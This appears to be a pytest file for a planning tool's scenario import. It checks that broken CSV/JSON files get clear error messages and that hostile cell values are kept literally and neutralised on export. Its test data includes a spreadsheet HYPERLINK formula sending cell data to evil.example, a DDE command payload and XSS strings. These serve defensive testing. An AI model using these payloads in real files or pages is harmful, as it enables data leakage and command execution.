"""The corpus of hostile and broken files in ``corpus/``: each gets its clear message.

Refused files must raise ``PlannerInputError`` whose messages contain every expected fragment
(and nothing is returned: import is all or nothing). Hostile-but-valid files (formulas, HTML
and quotes in names) must import with the text kept literally, and re-export neutralised.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from mlplanner.errors import PlannerInputError
from mlplanner.exchange.csv_dialect import csv_text
from mlplanner.exchange.scenario_csv import scenario_frame
from mlplanner.exchange.scenario_import import import_scenario
from mlplanner.exchange.spreadsheet_safety import is_neutral

CORPUS = Path(__file__).parent / "corpus"
ENUM = "is not one of 'analytics', 'tabular', 'recommender'"

REFUSED: dict[str, tuple[str, ...]] = {
    "empty.csv": ("the file is empty: expected a header row",),
    "header_only.csv": ("the file has a header but no rows",),
    "missing_column.csv": ("row 1: missing column 'domain' (required)",),
    "extra_column.csv": ("row 1: unknown column 'colour'; the columns are project_name, ",),
    "wrong_types.csv": (
        "row 2, count: must be a whole number (got 'two')",
        "row 2, employees: must be a whole number (got 'many')",
        "row 2, annual_budget_usd: must be a number in dollars, digits only (got '2.5M')",
        "row 3, count: must be a whole number (got '1.5')",
    ),
    "unknown_enum.csv": (f"row 7, domain: 'vision' {ENUM}",),
    "negative_count.csv": (
        "row 2, count: must be at least 1 (got -2)",
        "row 2, existing_data_scientist: must be at least 0 (got -1)",
    ),
    "huge_count.csv": (
        "row 2, count: must be at most 100 (got 1000000)",
        "row 3, count: is far too large (got '99999999999999999999999999')",
    ),
    "duplicated_column.csv": ("row 1: column 'domain' appears twice (columns 2 and 23)",),
    "binary.csv": ("the file contains binary data (NUL bytes)",),
    "latin1.csv": (
        "the file is not UTF-8 text (byte 0xe9 on line 2; Latin-1 or Windows-1252 perhaps). "
        "Save it as 'CSV UTF-8' in Excel",
    ),
    "utf16.csv": ("the file is UTF-16 text",),
    "formula_in_number.csv": ("row 2, count: must be a whole number (got '=1+1')",),
    "newline_in_name.csv": (
        "row 3, project_name: must not contain control characters",
        f"row 4, domain: 'vision' {ENUM}",
    ),
    "company_disagrees.csv": (
        "row 3, employees: '900' differs from '800' in row 2; the scenario and company "
        "columns must be the same on every row",
    ),
    "ragged_row.csv": ("row 3: has 5 cells, the header has 22",),
    "unclosed_quote.csv": ("row 3: not valid CSV (unexpected end of data)",),
    "not_a_header.csv": ("row 1 is not a scenario CSV header",),
    "invalid.json": ("invalid JSON: Expecting property name enclosed in double quotes (line 1",),
    "unknown_enum.json": (f"projects[0].domain: 'vision' {ENUM}",),
}

ACCEPTED: dict[str, tuple[str, ...]] = {
    "formula_names.csv": (
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+2",
        "-3",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
    ),
    "html_names.csv": (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<b>bold</b> &amp; co",
    ),
    "quotes_in_names.csv": (
        'He said "ship it", then left',
        "Search; ranking, v2",
        "O'Brien's \"model\"",
    ),
    "semicolon_bom.csv": ("Café recommandations", "日本語の検索"),
    "company_only.csv": (),
}


def test_every_corpus_file_has_an_expectation() -> None:
    assert {p.name for p in CORPUS.iterdir()} == set(REFUSED) | set(ACCEPTED)


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_a_broken_file_is_refused_with_its_message(name: str) -> None:
    with pytest.raises(PlannerInputError) as caught:
        import_scenario((CORPUS / name).read_bytes(), name)
    problems = [str(problem) for problem in caught.value.problems]
    for fragment in REFUSED[name]:
        assert any(fragment in problem for problem in problems), (fragment, problems)
    assert len(problems) == len(REFUSED[name]), problems


@pytest.mark.parametrize("name", sorted(ACCEPTED))
def test_a_hostile_but_valid_file_keeps_its_text_literally(name: str) -> None:
    scenario = import_scenario((CORPUS / name).read_bytes(), name)
    assert tuple(p.name for p in scenario.projects) == ACCEPTED[name]
    exported = csv_text(scenario_frame(scenario))
    cells = [line.split(",", 1)[0] for line in exported.splitlines()[1:]]
    assert all(is_neutral(cell.lstrip('"')) for cell in cells), cells
    assert import_scenario(exported.encode(), "again.csv") == scenario
